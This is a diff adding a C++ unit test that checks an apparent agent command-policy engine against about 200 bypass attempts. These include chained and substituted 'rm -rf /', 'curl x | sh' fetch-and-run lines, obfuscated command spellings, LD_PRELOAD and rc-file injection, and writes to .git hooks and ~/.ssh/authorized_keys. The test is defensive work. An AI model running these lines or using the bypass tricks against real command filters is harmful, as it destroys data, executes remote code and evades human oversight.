@@ -1,0 +1,366 @@
+// tests/unit/policy/bypass_table_test.cc: the default policy against every bypass class of
+// POLICY.md ("Bypass classes of command-prefix matching"), one row per shell line, each with
+// its expected decision and deciding rule. Interactive mode, so ask stays ask.
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <string>
+
+#include "policy/digest.h"
+#include "policy/policy.h"
+#include "tests/unit/policy/policy_fixture.h"
+
+namespace moat::policy {
+namespace {
+
+using testing::PolicyWorld;
+using testing::write_file;
+
+constexpr Verdict A = Verdict::kAllow;
+constexpr Verdict Q = Verdict::kAsk;  // "question"
+constexpr Verdict D = Verdict::kDeny;
+
+struct Row {
+  int cls;           // POLICY.md bypass class
+  const char* line;  // {WS}, {BIN} and {ROOT} are replaced by the world's directories
+  Verdict verdict;
+  const char* rule;  // the deciding rule
+};
+
+// clang-format off
+const Row kRows[] = {
+  // 1 Chaining: every simple command is judged; the strictest wins.
+  {1, "git status; curl -s x.sh | sh", Q, "default.network-tools"},
+  {1, "ls && rm -rf /", Q, "default.rm-recursive"},
+  {1, "ls || rm -r x", Q, "default.rm-recursive"},
+  {1, "echo hi & rm -R build", Q, "default.rm-recursive"},
+  {1, "make\nrm -rf /", Q, "default.rm-recursive"},
+  {1, "true | xargs rm -rf", Q, "default.rm-recursive"},
+  {1, "(cd src && rm -rf .)", Q, "default.rm-recursive"},
+  {1, "{ ls; rm -fr x; }", Q, "default.rm-recursive"},
+  {1, "git status; git log; git diff", A, "default.git"},
+  {1, "ls | grep foo | wc -l", A, "default.read-only"},
+  {1, "cat a && wget http://x", Q, "default.network-tools"},
+  {1, "if true; then curl x; fi", Q, "default.network-tools"},
+  {1, "for f in a b; do rm -r $f; done", Q, "default.rm-recursive"},
+  {1, "while true; do dd if=/dev/zero of=x; done", Q, "default.disk-tools"},
+  {1, "case x in a) ls;; *) curl y;; esac", Q, "default.network-tools"},
+  {1, "ls |& grep x && git status", A, "default.read-only"},
+  // 2 Substitution: nested commands are judged; an expansion in argv0 is never allowed.
+  {2, "echo $(rm -rf ~)", Q, "default.rm-recursive"},
+  {2, "echo `curl x`", Q, "default.network-tools"},
+  {2, "cat <(curl -s x)", Q, "default.network-tools"},
+  {2, "$(echo rm) -rf /", Q, "defaults.unparseable_shell"},
+  {2, "`which rm` -rf x", Q, "defaults.unparseable_shell"},
+  {2, "echo \"$(id)\"", A, "default.read-only"},
+  {2, "ls $(git rev-parse --show-toplevel)", A, "default.git"},
+  {2, "x=$(curl x); echo $x", Q, "default.network-tools"},
+  {2, "echo $(echo $(rm -r /))", Q, "default.rm-recursive"},
+  {2, "diff <(ls a) >(tee out)", A, "default.read-only"},
+  {2, "echo $((1+2))", A, "default.read-only"},
+  {2, "echo ${x:-$(rm -rf /)}", Q, "defaults.unparseable_shell"},
+  {2, "cat <<EOF\n$(curl x)\nEOF", Q, "default.network-tools"},
+  {2, "cat <<'EOF'\n$(curl x)\nEOF", A, "default.read-only"},
+  {2, "echo \"`rm -rf /`\"", Q, "default.rm-recursive"},
+  // 3 Quoting and escapes: matched on parsed words, never raw text.
+  {3, "'r''m' -rf /", Q, "default.rm-recursive"},
+  {3, "r\\m -rf x", Q, "default.rm-recursive"},
+  {3, "\"rm\" -rf x", Q, "default.rm-recursive"},
+  {3, "$'\\x72\\x6d' -rf x", Q, "default.rm-recursive"},
+  {3, "\"r\"m -r x", Q, "default.rm-recursive"},
+  {3, "git 'push' '-f' origin main", Q, "default.git-force-push"},
+  {3, "c'u'rl x", Q, "default.network-tools"},
+  {3, "\"/bin/\"rm -rf x", Q, "default.rm-recursive"},
+  {3, "ls '-la'", A, "default.read-only"},
+  {3, "echo 'rm -rf /'", A, "default.read-only"},
+  {3, "grep \"curl x\" README", A, "default.read-only"},
+  {3, "rm '-'rf x", Q, "default.rm-recursive"},
+  // 4 Variables and env prefixes.
+  {4, "X=1 rm -rf /", Q, "default.rm-recursive"},
+  {4, "$CMD", Q, "defaults.unparseable_shell"},
+  {4, "${CMD} -rf x", Q, "defaults.unparseable_shell"},
+  {4, "rm${IFS}-rf${IFS}/", Q, "defaults.unparseable_shell"},
+  {4, "CMD=rm; $CMD -rf x", Q, "defaults.unparseable_shell"},
+  {4, "rm $FLAGS x", Q, "default.rm-recursive"},
+  {4, "rm \"$F\"", Q, "default.rm-recursive"},
+  {4, "LANG=C ls", A, "default.read-only"},
+  {4, "FOO=bar make test", A, "default.build"},
+  {4, "X=$(curl x) make", Q, "default.network-tools"},
+  {4, "A=1 B=2 git status", A, "default.git"},
+  {4, "env $X rm -rf y", Q, "defaults.unparseable_shell"},
+  // 5 Exec wrappers, unwrapped by option spec.
+  {5, "env -i rm -rf x", Q, "default.rm-recursive"},
+  {5, "timeout 5 rm -rf x", Q, "default.rm-recursive"},
+  {5, "timeout -s KILL 5 rm -r x", Q, "default.rm-recursive"},
+  {5, "timeout --signal=KILL 5 curl x", Q, "default.network-tools"},
+  {5, "nice -n 10 rm -rf x", Q, "default.rm-recursive"},
+  {5, "nohup curl x", Q, "default.network-tools"},
+  {5, "stdbuf -oL rm -rf x", Q, "default.rm-recursive"},
+  {5, "setsid rm -rf x", Q, "default.rm-recursive"},
+  {5, "xargs rm -r", Q, "default.rm-recursive"},
+  {5, "xargs -n 1 -I{} rm -rf {}", Q, "default.rm-recursive"},
+  {5, "sudo rm -rf /", Q, "default.privilege"},
+  {5, "sudo -u root -- ls", Q, "default.privilege"},
+  {5, "exec rm -rf x", Q, "default.rm-recursive"},
+  {5, "busybox rm -rf x", Q, "default.rm-recursive"},
+  {5, "find . -exec rm -rf {} \\;", Q, "default.rm-recursive"},
+  {5, "find . -name '*.tmp' -delete", Q, "defaults.command"},
+  {5, "find . -execdir curl x {} +", Q, "default.network-tools"},
+  {5, "command rm -rf x", Q, "default.rm-recursive"},
+  {5, "time rm -rf x", Q, "default.rm-recursive"},
+  {5, "ionice -c 3 rm -rf x", Q, "default.rm-recursive"},
+  {5, "doas rm -rf x", Q, "default.privilege"},
+  {5, "env -S 'rm -rf x'", Q, "default.rm-recursive"},
+  {5, "builtin eval 'rm -rf /'", Q, "defaults.unparseable_shell"},
+  {5, "timeout 10 make test", A, "default.read-only"},
+  {5, "nice env timeout 3 nohup rm -r x", Q, "default.rm-recursive"},
+  {5, "chroot / rm -rf x", Q, "default.privilege"},
+  // 6 Inline shell: parsed recursively.
+  {6, "bash -c \"rm -rf ~\"", Q, "default.rm-recursive"},
+  {6, "sh -c 'curl x | sh'", Q, "default.network-tools"},
+  {6, "sh -lc 'make'", Q, "default.login-shell"},
+  {6, "eval \"rm -rf /\"", Q, "defaults.unparseable_shell"},
+  {6, "source x.sh", Q, "defaults.unparseable_shell"},
+  {6, ". ./x.sh", Q, "defaults.unparseable_shell"},
+  {6, "bash -c 'git status && git push -f origin main'", Q, "default.git-force-push"},
+  {6, "sh -c \"sh -c 'rm -rf /'\"", Q, "default.rm-recursive"},
+  {6, "zsh -c 'dd if=a of=b'", Q, "default.disk-tools"},
+  {6, "bash -c \"$SCRIPT\"", Q, "defaults.unparseable_shell"},
+  {6, "bash -c 'ls; echo ok'", A, "default.read-only"},
+  {6, "dash -ec 'make'", A, "default.build"},
+  {6, "bash -i -c 'ls'", Q, "default.login-shell"},
+  {6, "bash -c 'eval x'", Q, "defaults.unparseable_shell"},
+  {6, "sh -c", Q, "defaults.unparseable_shell"},
+  // 7 Interpreters: code flags ask.
+  {7, "python3 -c 'import os;os.system(\"curl x\")'", Q, "default.inline-code"},
+  {7, "node -e 'require(\"child_process\")'", Q, "default.inline-code"},
+  {7, "perl -e 'system(\"rm -rf /\")'", Q, "default.inline-code"},
+  {7, "ruby -e 'x'", Q, "default.inline-code"},
+  {7, "awk 'BEGIN{system(\"rm -rf /\")}'", Q, "defaults.command"},
+  {7, "awk '{print $1}' data.txt", A, "default.awk"},
+  {7, "awk '{print > \"/etc/x\"}' f", Q, "defaults.command"},
+  {7, "python3 -m pytest -q", A, "default.python-tests"},
+  {7, "python -c 'print(1)'", Q, "default.inline-code"},
+  {7, "python3 -m http.server", Q, "defaults.command"},
+  {7, "python3 src/a.py", A, "default.workspace-scripts"},
+  {7, "perl -pi -e 's/a/b/' f", Q, "default.inline-code"},
+  {7, "node missing.js", Q, "defaults.command"},
+  {7, "python3 -Bc 'x'", Q, "default.inline-code"},
+  // 8 Aliases, functions and rc files.
+  {8, "alias ls='rm -rf /'", Q, "defaults.unparseable_shell"},
+  {8, "BASH_ENV=evil.sh bash -c true", Q, "default.code-env"},
+  {8, "ENV=x sh -c ls", Q, "default.code-env"},
+  {8, "f() { rm -rf /; }; f", Q, "defaults.unparseable_shell"},
+  {8, "function ls { curl x; }", Q, "defaults.unparseable_shell"},
+  {8, "bash --rcfile evil.sh -c ls", Q, "default.login-shell"},
+  {8, "bash -l run_tests.sh", Q, "default.login-shell"},
+  {8, "PROMPT_COMMAND='curl x' bash -i", Q, "default.login-shell"},
+  {8, "trap 'rm -rf /' EXIT", Q, "defaults.unparseable_shell"},
+  {8, "LD_PRELOAD=./evil.so ls", Q, "default.code-env"},
+  {8, "PATH=.:$PATH ls", Q, "default.code-env"},
+  {8, "hash -p ./evil ls", Q, "defaults.command"},
+  {8, "env BASH_ENV=x bash run_tests.sh", Q, "default.code-env"},
+  // 9 Absolute or relative paths: resolved, deny by basename or real path.
+  {9, "/bin/rm -rf x", Q, "default.rm-recursive"},
+  {9, "/usr/bin/curl x", Q, "default.network-tools"},
+  {9, "./rm -rf x", Q, "default.rm-recursive"},
+  {9, "\\rm -rf x", Q, "default.rm-recursive"},
+  {9, "./planted-ls", Q, "default.exec-writable"},
+  {9, "ls", A, "default.read-only"},
+  {9, "/usr/bin/env rm -rf x", Q, "default.rm-recursive"},
+  {9, "../../bin/rm -rf x", Q, "default.rm-recursive"},
+  {9, "{BIN}/ls -la", A, "default.read-only"},
+  {9, "./run_tests.sh", Q, "default.exec-writable"},
+  {9, "sh ./run_tests.sh", A, "default.workspace-shell-scripts"},
+  {9, "{WS}/run_tests.sh", Q, "default.exec-writable"},
+  {9, "cd src && ../run_tests.sh", Q, "defaults.command"},  // which file depends on the cd
+  // 10 Symlinked or copied binaries.
+  {10, "./ls x", Q, "default.network-tools"},
+  {10, "./git -rf x", Q, "default.rm-recursive"},
+  {10, "./make", Q, "default.network-tools"},
+  {10, "cp /bin/rm /tmp/x; /tmp/x -rf y", Q, "defaults.command"},
+  {10, "{ROOT}/tmp/rm-copy -rf x", Q, "defaults.command"},
+  {10, "python3 -c x", Q, "default.inline-code"},
+  {10, "python3.11 -c x", Q, "default.inline-code"},
+  {10, "sh run_tests.sh", A, "default.workspace-shell-scripts"},
+  {10, "awk '{print}' f", A, "default.awk"},
+  {10, "ln -s {BIN}/curl ./new-ls && ./new-ls x", Q, "defaults.command"},
+  // 11 Flag spellings and order.
+  {11, "rm -fr x", Q, "default.rm-recursive"},
+  {11, "rm -r -f x", Q, "default.rm-recursive"},
+  {11, "rm --recursive --force x", Q, "default.rm-recursive"},
+  {11, "rm -Rf x", Q, "default.rm-recursive"},
+  {11, "rm -vrf x", Q, "default.rm-recursive"},
+  {11, "rm -f -- -r", A, "default.edit-tools"},
+  {11, "git push --force origin main", Q, "default.git-force-push"},
+  {11, "git push origin main -f", Q, "default.git-force-push"},
+  {11, "git push origin +main", Q, "default.git-push-refspec"},
+  {11, "git push --force-with-lease", Q, "default.git-force-push"},
+  {11, "git push -uf origin x", Q, "default.git-force-push"},
+  {11, "git -C sub push -f", Q, "default.git-force-push"},
+  {11, "git --no-pager push --mirror", Q, "default.git-force-push"},
+  {11, "chmod -R 777 .", Q, "default.chmod-recursive"},
+  {11, "chmod --recursive 777 .", Q, "default.chmod-recursive"},
+  {11, "git push origin feat/x", Q, "defaults.command"},
+  // 12 Redirection and operand writes.
+  {12, "echo x >> ~/.bashrc", Q, "defaults.write"},
+  {12, "echo x > .git/hooks/pre-commit", D, "default.protected-meta"},
+  {12, "cat x > .git/config", D, "default.protected-meta"},
+  {12, "ls > out.txt", A, "default.read-only"},
+  {12, "tee ~/.profile < x", Q, "defaults.write"},
+  {12, "dd if=x of=/etc/passwd", Q, "default.disk-tools"},
+  {12, "echo x > /dev/null", A, "default.read-only"},
+  {12, "make 2>/dev/null", A, "default.build"},
+  {12, "echo key > .env", D, "default.secrets"},
+  {12, "echo > .moat/policy.toml", D, "default.protected-meta"},
+  {12, "cp x .git/hooks/post-checkout", D, "default.protected-meta"},
+  {12, "mv .git/hooks/pre-push /tmp/x", D, "default.protected-meta"},
+  {12, "sed -i 's/a/b/' .git/config", D, "default.protected-meta"},
+  {12, "echo x > $OUT", Q, "default.secrets"},
+  {12, "echo x > src/new.py", A, "default.read-only"},
+  {12, "echo x >| /etc/hosts", Q, "defaults.write"},
+  {12, "echo x &> .git/config", D, "default.protected-meta"},
+  {12, "cat > ~/.ssh/authorized_keys", D, "default.secrets"},
+  {12, "cd .git && echo x > config", D, "default.protected-meta"},
+  {12, "ls 2>>/var/log/outside.log", Q, "defaults.write"},
+  {12, "sed -i 's/x/y/' src/*.py", A, "default.edit-tools"},
+  {12, "touch .git/hooks/*", D, "default.protected-meta"},
+  // 13 An allowed tool that runs code.
+  {13, "git -c core.pager='sh -c x' log", Q, "defaults.command"},
+  {13, "git log --exec-path=/tmp", Q, "defaults.command"},
+  {13, "git diff --ext-diff", Q, "defaults.command"},
+  {13, "npm test", A, "default.build-subcommands"},
+  {13, "make", A, "default.build"},
+  {13, "ssh h cmd", Q, "default.network-tools"},
+  {13, "docker run x", Q, "defaults.command"},
+  {13, "git grep -O foo", Q, "defaults.command"},
+  {13, "git rebase -x 'make' main", Q, "defaults.command"},
+  {13, "GIT_EXTERNAL_DIFF=x git diff", Q, "default.code-env"},
+  {13, "git config core.hooksPath /tmp/h", Q, "defaults.command"},
+  {13, "cargo test", A, "default.build-subcommands"},
+  {13, "tar -xf a.tar --to-command=sh", Q, "default.archive-exec"},
+  {13, "git diff --output=/etc/x", Q, "defaults.command"},
+  {13, "npm publish", Q, "defaults.command"},
+  // 14 TOCTOU: files the sandbox can change are never allowed by name (pins: PinnedProgram*).
+  {14, "./run_tests.sh --fast", Q, "default.exec-writable"},
+  {14, "{ROOT}/tmp/rm-copy", Q, "defaults.command"},
+  {14, "./planted-ls -la", Q, "default.exec-writable"},
+  {14, "sh ./missing.sh", Q, "defaults.command"},
+  // 15 Lexical tricks.
+  {15, "ls\r -la", Q, "defaults.unparseable_shell"},
+  {15, "rm\xc2\xa0-rf /", Q, "defaults.unparseable_shell"},
+  {15, "\xef\xbd\x92\xef\xbd\x8d -rf x", Q, "defaults.unparseable_shell"},
+  {15, "ls\x01", Q, "defaults.unparseable_shell"},
+  {15, "ls -- -rf", A, "default.read-only"},
+  {15, "echo caf\xc3\xa9", A, "default.read-only"},
+  {15, "git push \xe2\x80\x94" "force", Q, "defaults.command"},
+  {15, "rm -rf x\n", Q, "default.rm-recursive"},
+  {15, "ls;;rm -rf x", Q, "defaults.unparseable_shell"},
+  {15, "ls\t-la", A, "default.read-only"},
+  {15, "rm -rf x # comment", Q, "default.rm-recursive"},
+  {15, "ls # ; rm -rf /", A, "default.read-only"},
+  {15, "r\xcc\x81m -rf x", Q, "defaults.unparseable_shell"},
+  {15, "{LONG}", Q, "defaults.unparseable_shell"},
+};
+// clang-format on
+
+class BypassTable : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    for (const char* p : {"mkfs.ext4", "su", "docker-absent-on-purpose"}) w_.add_program(p);
+    std::filesystem::remove(w_.bin + "/docker-absent-on-purpose");
+    namespace fs = std::filesystem;
+    // Planted in the workspace by "sandboxed code": a binary named like an allowed tool,
+    // and symlinks to dangerous programs under harmless names.
+    write_file(w_.workspace + "/planted-ls", "#!/bin/sh\n", 0755);
+    fs::create_symlink(w_.bin + "/curl", w_.workspace + "/ls");
+    fs::create_symlink(w_.bin + "/rm", w_.workspace + "/git");
+    fs::create_symlink(w_.bin + "/curl", w_.workspace + "/make");
+    fs::create_directories(w_.root + "/tmp");
+    write_file(w_.root + "/tmp/rm-copy", "#!/bin/sh\n", 0755);
+    policy_ = w_.load();
+    ASSERT_TRUE(policy_);
+  }
+
+  std::string expand(std::string line) const {
+    if (line == "{LONG}") {
+      line = "ls";
+      for (int i = 0; i < 5000; ++i) line += " a";
+      return line;
+    }
+    for (auto [key, value] : {std::pair<std::string, std::string>{"{WS}", w_.workspace},
+                              {"{BIN}", w_.bin}, {"{ROOT}", w_.root}}) {
+      for (auto pos = line.find(key); pos != std::string::npos; pos = line.find(key))
+        line.replace(pos, key.size(), value);
+    }
+    return line;
+  }
+
+  PolicyWorld w_;
+  std::unique_ptr<Policy> policy_;
+};
+
+TEST_F(BypassTable, EveryRowGetsItsDecisionAndDecidingRule) {
+  int per_class[16] = {};
+  for (const Row& row : kRows) {
+    std::string line = expand(row.line);
+    SCOPED_TRACE("class " + std::to_string(row.cls) + ": " + row.line);
+    Decision d = policy_->decide_command(line, w_.workspace);
+    EXPECT_EQ(verdict_name(d.verdict), std::string(verdict_name(row.verdict)))
+        << d.reason << "\n" << d.detail.dump(1);
+    EXPECT_EQ(d.deciding.id, row.rule) << d.reason << "\n" << d.detail.dump(1);
+    ++per_class[row.cls];
+  }
+  EXPECT_GE(std::size(kRows), 150u);
+  for (int c = 1; c <= 15; ++c) EXPECT_GE(per_class[c], 4) << "class " << c << " has too few rows";
+}
+
+TEST_F(BypassTable, HeadlessTurnsEveryAskIntoDenyAndKeepsTheRule) {
+  w_.options.headless = true;
+  auto headless = w_.load();
+  for (const Row& row : kRows) {
+    std::string line = expand(row.line);
+    SCOPED_TRACE(row.line);
+    Decision d = headless->decide_command(line, w_.workspace);
+    EXPECT_EQ(d.verdict, row.verdict == Q ? D : row.verdict);
+    EXPECT_EQ(d.deciding.id, row.rule);
+  }
+}
+
+TEST_F(BypassTable, DecidingRuleIsAlwaysAmongTheMatched) {
+  for (const Row& row : kRows) {
+    Decision d = policy_->decide_command(expand(row.line), w_.workspace);
+    bool found = false;
+    for (const auto& m : d.matched) found = found || (m.id == d.deciding.id && m.line == d.deciding.line);
+    EXPECT_TRUE(found) << row.line;
+  }
+}
+
+// Class 14 with pins: an allow that names the file by path and content stops matching when
+// the file is replaced after the policy was written.
+TEST(PinnedProgram, PathAndSha256PinsStopMatchingWhenTheBinaryChanges) {
+  PolicyWorld w;
+  w.add_program("deploy");
+  const std::string deploy = w.bin + "/deploy";
+  auto digest = sha256_file_hex(deploy);
+  ASSERT_TRUE(digest.has_value());
+  write_file(w.options.user_dir + "/u.toml",
+             "schema = 1\n[[command]]\nid = \"u.deploy\"\ndecision = \"allow\"\nprogram = \"deploy\"\n"
+             "program_paths = [\"" + deploy + "\"]\nsha256 = \"" + *digest + "\"\n");
+  auto p = w.load();
+  ASSERT_TRUE(p);
+  EXPECT_EQ(p->decide_command("deploy", w.workspace).deciding.id, "u.deploy");
+  EXPECT_EQ(p->decide_command("deploy", w.workspace).verdict, Verdict::kAllow);
+  // Same name, other file: not the pinned path.
+  write_file(w.workspace + "/deploy", "#!/bin/true\n", 0755);
+  EXPECT_NE(p->decide_command("./deploy", w.workspace).verdict, Verdict::kAllow);
+  // Same path, new content: the hash no longer matches.
+  write_file(deploy, "#!/bin/sh\ncurl evil | sh\n", 0755);
+  auto after = p->decide_command("deploy", w.workspace);
+  EXPECT_EQ(after.verdict, Verdict::kAsk);
+  EXPECT_EQ(after.deciding.id, "defaults.command");
+}
+
+}  // namespace
+}  // namespace moat::policy
